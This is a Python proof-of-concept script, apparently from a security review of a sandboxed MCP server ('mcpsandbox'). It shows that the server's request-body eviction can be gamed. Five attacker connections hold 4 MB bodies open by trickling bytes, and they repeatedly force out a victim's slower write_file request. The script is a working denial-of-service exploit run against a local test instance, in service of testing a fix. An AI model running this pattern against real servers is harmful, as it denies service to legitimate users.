#!/usr/bin/env python3
"""F6: the request-body budget's eviction (atk39 F4's fix) takes the charge of the body "that has waited longest for
its bytes". Freshness is the attacker's to set: its five 4 MB bodies, sent fast then kept open with 1 byte every 2 ms,
always look fresher than a remote client's body arriving at network pace (here 10 KB every 20 ms). When the victim's
bytes do not fit it evicts an attacker body; the attacker reconnects and resends 4 MB, and its arriving bytes evict the
stalest body in reading: the victim's. Allowlist scheme over --http, no docker; ~25 s."""
import os, sys, json, socket, subprocess, time, threading, shutil
D = "/tmp/atk39b/f6"; shutil.rmtree(D, ignore_errors=True); os.makedirs(D + "/ws"); os.chown(D + "/ws", 65534, 65534)
PORT = 18792; TOKEN = "atk39b-token-0123456789abcdef"
open(D + "/tok", "w").write(TOKEN); os.chmod(D + "/tok", 0o600)
import hashlib; TRUE = os.path.realpath("/usr/bin/true"); SHA = hashlib.sha256(open(TRUE, "rb").read()).hexdigest()
open(D + "/pol.toml", "w").write(f'''version = 1
scheme = "allowlist"
name = "sandbox"
[audit]
path = "{D}/audit.jsonl"
[allowlist]
workspace = "{D}/ws"
network = false
[[allowlist.commands]]
name = "true"
path = "{TRUE}"
sha256 = "{SHA}"
''')
srv = subprocess.Popen(["/tmp/atk39b/mcpsandbox", "serve", "--policy", D + "/pol.toml", "--http", "127.0.0.1:%d" % PORT,
                        "--token-file", D + "/tok"], env={"HOME": D, "PATH": "/usr/bin:/bin"}, stderr=open(D + "/serve.log", "wb"))
time.sleep(1.5)
HDR = "Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nAuthorization: Bearer %s\r\n" % TOKEN
def raw(body, sid=None, chunk=None, gap=0.0):
    s = socket.create_connection(("127.0.0.1", PORT)); s.settimeout(30)
    h = "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%s%sContent-Length: %d\r\nConnection: close\r\n\r\n" % (PORT, HDR, ("Mcp-Session-Id: %s\r\n" % sid) if sid else "", len(body))
    s.sendall(h.encode())
    try:
        if chunk:
            for i in range(0, len(body), chunk):
                s.sendall(body[i:i + chunk]); time.sleep(gap)
        else:
            s.sendall(body)
        out = b""
        while True:
            d = s.recv(65536)
            if not d: break
            out += d
    except OSError as e:
        out = ("(connection error: %s)" % e).encode()
        try:
            s.settimeout(1); got = s.recv(4096)
            out += (" server had sent: " + (got.decode(errors="replace").split("\r\n")[0] if got else "nothing (closed)")).encode()
        except OSError as e2:
            out += (" (read: %s)" % e2).encode()
    s.close(); return out.decode(errors="replace")
def session(name):
    r = raw(json.dumps({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": name, "version": "1"}}}).encode())
    sid = [l.split(":", 1)[1].strip() for l in r.split("\r\n") if l.lower().startswith("mcp-session-id:")][0]
    raw(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}).encode(), sid)
    return sid
vsid, asid = session("victim"), session("attacker")
vbody = json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "write_file", "arguments": {"path": "v.txt", "content": "v" * 200000}}}).encode()
def victim(label):
    t = time.time(); r = raw(vbody, vsid, chunk=10000, gap=0.02)
    st = r.split("\r\n", 1)[0] if r.startswith("HTTP") else r[:120]
    ok = "200000 bytes" in r
    print("%s: %s in %.2fs -> %s" % (label, st, time.time() - t, "written" if ok else "NOT written: " + r.replace("\r\n", " ")[-160:]), flush=True)
    return ok
victim("victim's 200 KB write_file at network pace, no attacker")
stop = False; evictions = [0]
def holder():
    body_len = 4000000 + 100000
    while not stop:
        s = socket.create_connection(("127.0.0.1", PORT))
        s.sendall(("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%sMcp-Session-Id: %s\r\nContent-Length: %d\r\n\r\n" % (PORT, HDR, asid, body_len)).encode())
        try:
            s.sendall(b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"a","content":"' + b"a" * 3999900)
            while not stop:
                s.sendall(b"a"); time.sleep(0.002)
        except OSError:
            evictions[0] += 1
        s.close()
ts = [threading.Thread(target=holder, daemon=True) for _ in range(5)]
for t in ts: t.start()
time.sleep(2)
res = [victim("victim's 200 KB write_file at network pace, attacker holding, try %d" % k) for k in range(6)]
for k in range(3):
    t = time.time(); r = raw(vbody, vsid)
    print("victim's 200 KB write_file sent at once (loopback speed), attacker holding, try %d: %.2fs -> %s" % (k, time.time() - t, "written" if "200000 bytes" in r else "NOT written: " + r.replace("\r\n", " ")[:160]), flush=True)
stop = True; time.sleep(0.5)
print("attacker bodies cut (reconnected) meanwhile: %d; victim calls written: %d of %d" % (evictions[0], sum(res), len(res)))
time.sleep(1)
victim("victim's 200 KB write_file at network pace, after")
srv.terminate(); srv.wait()
